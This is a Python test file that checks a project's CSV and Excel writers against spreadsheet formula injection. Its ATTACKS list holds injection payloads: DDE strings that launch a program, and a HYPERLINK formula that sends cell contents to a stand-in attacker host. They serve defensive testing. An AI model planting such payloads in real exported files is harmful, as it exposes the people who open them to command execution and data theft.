"""No file that we write holds a text that a spreadsheet would compute."""

import csv
import io
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook
from typer.testing import CliRunner

from clusterwatch.breakdown.files import csv_text
from clusterwatch.breakdown.tables import Table
from clusterwatch.cli import app
from clusterwatch.sending import report
from services.ingest.use_cases.take_file import TakenFile
from shared.events.reasons import Reason, Refused
from shared.files.mending import RefusedRow, explained, mend_table
from shared.files.writing import ACTS, inert, set_text
from shared.testing.events import output

ATTACKS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test?x="&A1)',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "－1+1",
    "%00=1",
    "-1+1",
    "+86 557 1234",
]


def acts(text: str) -> bool:
    """Whether a spreadsheet may compute it: begins so, and is no plain number."""
    try:
        float(text.rstrip("%").replace(",", "") or "x")
    except ValueError:
        return text.lstrip().startswith(ACTS) and set(text) != {"-"}
    return False


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@given(st.sampled_from(ATTACKS) | st.text(max_size=30))
def test_a_text_is_never_computed_and_only_marked_where_it_could_be(text: str) -> None:
    written = inert(text)
    assert not acts(written)
    assert written in {text, f"'{text}"}
    assert (written == text) or text.lstrip(" \u3000\ufeff").startswith(ACTS)


@pytest.mark.parametrize(
    "number", ["-12.5", "+3", "-1,234.5", "12", "-3%", "1e-5", "-2E+3", "-", "--"]
)
def test_numbers_and_dashes_stay_what_they_are(number: str) -> None:
    assert inert(number) == number


@given(st.lists(st.sampled_from(ATTACKS), min_size=2, max_size=4))
def test_neither_break_downs_nor_refused_rows_act(texts: list[str]) -> None:
    table = Table("t", tuple(texts), (tuple(texts),))
    refusal = explained("s", 2, Refused(Reason.WRONG_TYPE, texts[0], texts[1]))
    mended = mend_table([texts], [(texts, [refusal])]).decode("utf-8-sig")
    for written in (csv_text(table), mended):
        assert not [cell for cell in cells_of(written) if acts(cell)]


@pytest.mark.parametrize("attack", ATTACKS)
def test_workbooks_hold_texts_and_no_formulas(attack: str) -> None:
    sheet = Workbook().worksheets[0]
    cell = sheet.cell(1, 1)
    set_text(cell, attack)
    assert cell.data_type == "s"


@pytest.mark.parametrize("attack", [text for text in ATTACKS if not set(text) & set("\r\n")])
def test_assessed_tables_do_not_act(attack: str, tmp_path: Path) -> None:
    head = ["indicator", "direction", "base_year", "base_value", "latest_year", "latest_value"]
    source, made = tmp_path / "in.csv", tmp_path / "out.csv"
    with source.open("w", encoding="utf-8", newline="") as stream:
        rows = csv.writer(stream)
        rows.writerow([*head, attack])
        rows.writerow([attack, "1", "2020", "10", "2024", "12", attack])

    CliRunner().invoke(app, ["assess", str(source), "--output", str(made)])

    written = cells_of(made.read_text(encoding="utf-8-sig"))
    assert len(written) > len(head)
    assert not [cell for cell in written if acts(cell)]


def test_refused_lines_come_back_as_they_were_and_their_reasons_do_not_act(tmp_path: Path) -> None:
    """No spreadsheet computes NDJSON, and whoever mends it needs the bytes that were refused."""
    lines = [
        msgspec.json.encode({**output(number), "unit": attack, attack: 1})
        for number, attack in enumerate(ATTACKS, start=1)
    ]
    source = tmp_path / "stats.output.v1.ndjson"
    source.write_bytes(b"\n".join(lines) + b"\n")

    done = CliRunner().invoke(app, ["send", str(source), "--dry-run"])

    assert done.exit_code == 3, done.output
    assert (tmp_path / "stats.output.v1.refused.ndjson").read_bytes() == source.read_bytes()
    reasons = cells_of((tmp_path / "stats.output.v1.reasons.csv").read_text("utf-8-sig"))
    assert len(reasons) > len(ATTACKS)
    assert not [cell for cell in reasons if acts(cell)]


@pytest.mark.parametrize("pattern", ["csv.writer(", "csv.DictWriter(", "Workbook("])
def test_every_writer_of_tables_is_tried(pattern: str) -> None:
    tried = {
        "clusterwatch/breakdown/files.py": "here, and in test_breakdown_command.py",
        "clusterwatch/commands/assess.py": "here",
        "clusterwatch/sending.py": "here",
        "services/alerts/adapters/papers/workbook.py": "test_paper_workbook.py",
        "shared/files/mending.py": "here, and in test_files_route.py",
    }
    root = Path(__file__).parents[3]
    found = {
        str(file.relative_to(root))
        for folder in ("clusterwatch", "services", "shared")
        for file in (root / folder).rglob("*.py")
        if pattern in file.read_text(encoding="utf-8")
    }
    assert found <= set(tried)


@pytest.mark.parametrize("attack", ATTACKS)
def test_reasons_beside_refused_lines_do_not_act(attack: str, tmp_path: Path) -> None:
    refused = RefusedRow("", 2, attack, Reason.WRONG_TYPE, attack, attack)
    taken = TakenFile("ndjson", "t", rows_refused=1, refusals=[refused], mend={"": b"{}"})

    report(tmp_path / "in.ndjson", taken, tmp_path)

    written = cells_of((tmp_path / "in.reasons.csv").read_bytes().decode("utf-8-sig"))
    assert sum(attack in cell for cell in written) == 3
    assert not [cell for cell in written if acts(cell)]
